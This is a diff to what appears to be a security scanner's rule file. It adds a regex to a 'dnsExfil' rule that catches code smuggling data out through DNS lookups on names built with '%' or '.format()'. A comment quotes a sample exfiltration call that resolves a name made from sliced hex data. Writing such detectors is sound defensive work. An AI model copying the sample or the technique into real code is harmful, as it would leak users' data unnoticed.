@@ -181,6 +181,8 @@ export const dnsExfil = patternRule({
 
     // The same in code: a resolver call on a name built from several interpolated labels or a slice of data (`gethostbyname(f"{hx[i:i+30]}.{i}.zone.example.net")`); one label (`f"{region}.api.example.com"`) is a host name.
     /\b(?:gethostbyname(?:_ex)?|getaddrinfo|dns\.(?:resolve\w*|lookup)|resolver\.(?:resolve|query)|Dns\.GetHost(?:Entry|Addresses)\w*|net\.Lookup\w*|InetAddress\.getByName)\s*\(\s*(?:f["']|`)(?:(?:[^"'`\n{}$]{0,40}(?:\{[^{}\n]{1,60}\}|\$\{[^{}\n]{1,60}\})\.){2,4}|[^"'`\n{}$]{0,40}\$?\{[^{}\n]{0,40}\[[^\]\n]{0,20}:[^\]\n]{0,20}\][^{}\n]{0,20}\}\.)(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,24}["'`]/i,
+    // The same built with `%` or `.format()`: two or more filled labels, or one filled from a slice of data.
+    /\b(?:gethostbyname(?:_ex)?|getaddrinfo|resolver\.(?:resolve|query))\s*\(\s*["'](?:(?:%[sdx]|\{\w{0,20}\})\.){2,4}(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,24}["']\s*(?:%|\.format\()|\b(?:gethostbyname(?:_ex)?|getaddrinfo|resolver\.(?:resolve|query))\s*\(\s*["'](?:%s|\{\w{0,20}\})\.(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,24}["']\s*(?:%\s*\(?|\.format\()\s*\w+\[[^\]\n]{0,20}:[^\]\n]{0,20}\]/i,
   ],
   message: "Builds a DNS name from local data and resolves it: data leaves in the query",
 });
